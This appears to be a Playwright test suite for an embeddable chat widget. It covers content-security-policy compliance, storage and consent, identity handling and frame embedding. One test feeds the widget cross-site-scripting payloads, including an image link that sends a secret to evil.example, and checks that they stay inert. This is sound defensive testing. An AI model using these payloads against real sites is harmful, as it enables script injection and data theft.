"""On any page: strict policies, hostile style sheets, nothing stored before it should be, one bubble."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from .driver import Widget
from .host import Host
from .site import Site

Visit = Callable[..., Page]

STORED = "() => Object.entries({...localStorage, ...sessionStorage}).map(([k, v]) => [k, JSON.parse(v)])"


def collect_violations(page: Page) -> list[str]:
    found: list[str] = []
    page.add_init_script(
        "document.addEventListener('securitypolicyviolation',"
        " (event) => console.log('VIOLATION', event.violatedDirective, event.blockedURI, event.sourceFile))"
    )
    page.on("console", lambda message: found.append(message.text) if "VIOLATION" in message.text else None)
    return found


@pytest.mark.parametrize("policy", ["nonce", "strict", "hash&plain"])
def test_a_strict_policy_with_trusted_types_is_not_violated(
    visit: Visit, host: Host, context: Any, policy: str
) -> None:
    page = context.new_page()
    violations = collect_violations(page)
    widget = Widget(visit(f"csp={policy}", page=page)).open().ask("How do refunds work?")
    host.wait_for("message")
    host.answer(
        "See **this** [1] or [that](https://a.example).", citations=[{"n": 1, "title": "T", "snippet": "s"}]
    )
    widget.root.locator(".chip").click()
    widget.root.get_by_role("button", name="Bad answer").click()
    widget.root.get_by_role("button", name="More options").click()
    widget.root.get_by_role("button", name="Leave your contact details").click()
    expect(widget.root.get_by_label("E-mail")).to_be_visible()
    assert violations == []


def test_a_hostile_style_sheet_neither_hides_nor_deforms_it(visit: Visit, host: Host) -> None:
    page = visit()
    ours = Widget(page).open().panel.bounding_box()
    page.evaluate("netvexa.logout()")
    hostile = Widget(visit("hostile", page=page))
    expect(hostile.bubble).to_be_visible()
    assert hostile.open().panel.bounding_box() == ours
    expect(hostile.panel.get_by_text("Ada", exact=True)).to_have_css("font-size", "16px")
    assert hostile.panel.evaluate("(node) => getComputedStyle(node).letterSpacing") == "normal"
    expect(hostile.field).to_be_focused()


def test_the_page_keeps_its_own_looks(visit: Visit, host: Host) -> None:
    page = visit()
    heading = "getComputedStyle(document.querySelector('h1')).cssText"
    before = page.evaluate(heading)
    Widget(page).open().ask("Hello")
    host.wait_for("message")
    assert page.evaluate(heading) == before


def test_nothing_is_stored_before_the_first_click(visit: Visit, host: Host) -> None:
    page = visit()
    widget = Widget(page)
    expect(widget.bubble).to_be_visible()
    page.evaluate("netvexa.on('open', () => {}); netvexa.setContext({locale: 'de'})")
    widget.bubble.hover()
    assert page.evaluate(STORED) == []
    assert host.handshakes == 0
    widget.open()
    host.wait_for("hello")
    expect(widget.panel).to_be_visible()
    page.wait_for_function("localStorage.length === 1")
    [[key, kept]] = page.evaluate(STORED)
    assert key == "netvexa:nv_demo_agent"
    assert set(kept) <= {"visitor", "conversation", "read", "open", "live"}
    assert page.context.cookies() == []


def test_where_consent_is_required_it_is_waited_for(visit: Visit, host: Host) -> None:
    page = visit("attrs=data-consent=required")
    Widget(page).open().ask("Hello")
    host.wait_for("message")
    assert page.evaluate(STORED) == []
    page.evaluate("netvexa.consent()")
    assert page.evaluate(STORED) != []
    page.evaluate("netvexa.consent(false)")
    assert page.evaluate(STORED) == []


def test_the_app_is_loaded_when_it_is_wanted_and_the_bubble_before_it(visit: Visit, host: Host) -> None:
    page = visit()
    expect(Widget(page).bubble).to_be_visible()
    assert host.requests[0] == "/widget/v1/netvexa.min.js"
    assert "/widget/config/nv_demo_agent.json" not in host.requests


def test_a_tag_that_names_the_agent_only_in_its_attribute_asks_for_the_configuration(
    visit: Visit, host: Host
) -> None:
    page = visit("plain")
    Widget(page).open()
    assert host.requests[:2] == ["/widget/v1/netvexa.min.js", "/widget/config/nv_demo_agent.json"]
    ours = "Object.keys(window).filter((name) => !(name in document.createElement('iframe')))"
    assert page.evaluate(f"{ours}.filter((name) => name.length < 3 || /netvexa|NVC/i.test(name))") == [
        "netvexa"
    ]


def test_a_page_that_includes_it_twice_has_one_bubble(visit: Visit, host: Host) -> None:
    page = visit("twice")
    expect(Widget(page).bubble).to_be_visible()
    page.wait_for_load_state("networkidle")
    assert page.locator("netvexa-widget").count() == 1


@pytest.mark.parametrize("manner", ["agent=nobody", "agent=nobody&plain"])
def test_an_agent_that_is_unknown_or_paused_leaves_no_trace(visit: Visit, host: Host, manner: str) -> None:
    page = visit(manner)
    page.wait_for_load_state("networkidle")
    assert ("/widget/config/nobody.json" in host.requests) == ("plain" in manner)
    assert page.locator("netvexa-widget").count() == 0


def test_calls_made_before_it_has_loaded_are_kept(visit: Visit, host: Host) -> None:
    queue = (
        "<script nonce=r4nd0m>window.netvexa=[];netvexa.push(['on','open',()=>{window.opened=1}]);"
        "netvexa.push(['ask','Early question'])</script>"
    )
    page = visit(f"head={queue}")
    assert host.wait_for("message")["text"] == "Early question"
    expect(Widget(page).own).to_have_text("Early question")
    assert page.evaluate("window.opened") == 1


def test_the_page_can_open_ask_close_and_remove_it(visit: Visit, host: Host) -> None:
    page = visit()
    widget = Widget(page)
    expect(widget.bubble).to_be_visible()
    page.evaluate("netvexa.open()")
    expect(widget.panel).to_be_visible()
    page.evaluate("netvexa.ask('From the page')")
    assert host.wait_for("message")["text"] == "From the page"
    page.evaluate("netvexa.close()")
    expect(widget.panel).to_be_hidden()
    page.evaluate("netvexa.toggle()")
    expect(widget.panel).to_be_visible()
    page.evaluate("netvexa.destroy()")
    assert page.locator("netvexa-widget").count() == 0
    assert page.evaluate("window.netvexa") is None


def test_a_signed_identity_is_said_in_hello_and_logout_forgets(visit: Visit, host: Host) -> None:
    page = visit()
    widget = Widget(page).open().ask("I am a guest")
    host.wait_for("message")
    page.evaluate("netvexa.identify({user_id: 'u1', name: 'Ada', hash: 'h'})")
    assert host.wait_for("hello", count=2)["identity"] == {"user_id": "u1", "name": "Ada", "hash": "h"}
    page.evaluate("netvexa.logout()")
    expect(widget.panel).to_be_hidden()
    assert page.evaluate(STORED) == []
    widget.open()
    anew = host.wait_for("hello", count=3)
    assert not {"identity", "visitor", "conversation"} & set(anew)


def test_another_user_at_the_same_browser_does_not_see_the_first_ones_conversation(
    visit: Visit, host: Host
) -> None:
    page = visit()
    widget = Widget(page).open()
    host.wait_for("hello")
    page.evaluate("netvexa.identify({user_id: 'u1', hash: 'h'})")
    host.wait_for("hello", count=2)
    widget.ask("My secret")
    host.wait_for("message")
    page.evaluate("netvexa.identify({user_id: 'u2', hash: 'h2'})")
    hello = host.wait_for("hello", count=3)
    assert not {"visitor", "conversation"} & set(hello)
    expect(widget.own).to_have_count(0)


@pytest.mark.parametrize(
    "framing",
    [
        "frame.sandbox = 'allow-scripts'; frame.srcdoc = inner",
        "frame.srcdoc = inner",
        "frame.src = 'data:text/html,' + encodeURIComponent(inner)",
        "frame.src = URL.createObjectURL(new Blob([inner], {type: 'text/html'}))",
    ],
    ids=["sandbox", "srcdoc", "data", "blob"],
)
def test_a_frame_without_an_address_of_its_own_works(
    visit: Visit, host: Host, shop: Site, framing: str
) -> None:
    page = visit("agent=nobody")
    page.evaluate(
        "(inner) => { const frame = document.createElement('iframe'); frame.width = 700; frame.height = 800;"
        f" {framing}; document.body.append(frame) }}",
        shop.page({}),
    )
    frame = page.frame_locator("iframe")
    frame.locator(".b").click()
    frame.get_by_role("textbox", name="Ask a question").fill("Hello")
    frame.get_by_role("textbox", name="Ask a question").press("Enter")
    assert host.wait_for("message")["text"] == "Hello"


def test_an_old_loader_finds_the_new_app_through_the_manifest(visit: Visit, host: Host, context: Any) -> None:
    page = context.new_page()
    app = json.loads((host.built / "manifest.json").read_text())["app"]
    page.route(
        "**/netvexa.min.js",
        lambda route: route.fulfill(
            body=(host.built / "netvexa.min.js").read_text().replace(app, "app.0000000000.js"),
            content_type="text/javascript",
        ),
    )
    widget = Widget(visit(page=page)).open()
    expect(widget.field).to_be_focused()


def test_attacks_in_an_answer_stay_words(visit: Visit, host: Host) -> None:
    page = visit()
    outside: list[str] = []
    page.on("request", lambda request: outside.append(request.url) if "evil" in request.url else None)
    widget = Widget(page).open().ask("Attack")
    host.wait_for("message")
    payloads = [
        "<img src=x onerror=window.hit=1>",
        "<script>window.hit=1</script>",
        "[go](javascript:window.hit=1)",
        "![x](https://evil.example/steal.png?d=secret)",
        "[go](data:text/html,<script>window.hit=1</script>)",
        '[a](https://evil.example" onmouseover="window.hit=1)',
    ]
    host.answer("\n\n".join(payloads), size=4)
    expect(widget.answer).to_contain_text("<img src=x onerror=window.hit=1>")
    widget.answer.locator("a").first.hover()
    assert page.evaluate("window.hit") is None
    assert outside == []
    assert widget.answer.locator("img, script, iframe, [onerror], [onmouseover]").count() == 0


def test_the_detector_of_attacks_detects(visit: Visit, host: Host) -> None:
    page = visit()
    Widget(page).open()
    page.evaluate("document.querySelector('main').innerHTML = '<img src=x onerror=window.hit=1>'")
    page.wait_for_function("window.hit === 1")
